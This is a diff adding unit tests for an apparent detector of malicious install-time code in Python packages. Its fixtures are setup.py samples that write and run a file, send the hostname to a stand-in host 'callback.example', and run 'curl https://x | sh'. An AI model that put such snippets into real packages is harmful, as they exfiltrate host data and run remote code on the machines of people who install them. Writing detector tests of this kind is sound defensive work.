@@ -384,3 +384,43 @@ def test_one_payload_among_many_files_counts_as_one_of_one() -> None:
     alone = code_evidence({"pkg/__init__.py": payload})
     among = code_evidence({"pkg/__init__.py": payload, **padding})
     assert alone == among
+
+
+def test_file_that_is_written_and_run_is_a_chain_of_its_own() -> None:
+    """Build scripts do so as well, so it does not count as an attack at the top level."""
+    evidence = code_evidence(
+        {
+            "setup.py": """
+            import os
+            script = "stage.bin"
+            with open(script, "wb") as file:
+                file.write(b"data")
+            os.system(script)
+            """
+        }
+    )
+    assert places(evidence, "chain_write_exec_unasked") == {("setup.py", 5)}
+    assert "chain_toplevel" not in features(evidence)
+
+
+def test_sender_made_for_an_address_sends_there() -> None:
+    evidence = code_evidence(
+        {
+            "setup.py": """
+            import socket
+            hook = Webhook.from_url("https://callback.example/hook")
+            hook.send(content=socket.gethostname())
+            """
+        }
+    )
+    assert ("setup.py", 3) in places(evidence, "chain_host_net_unasked")
+
+
+def test_module_run_by_name_is_followed() -> None:
+    evidence = code_evidence(
+        {
+            "setup.py": "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pkg.later'])\n",
+            "pkg/later.py": "import os\nos.system('curl https://x | sh')\n",
+        }
+    )
+    assert ("pkg/later.py", 2) in places(evidence, "chain_net_write_exec_unasked")
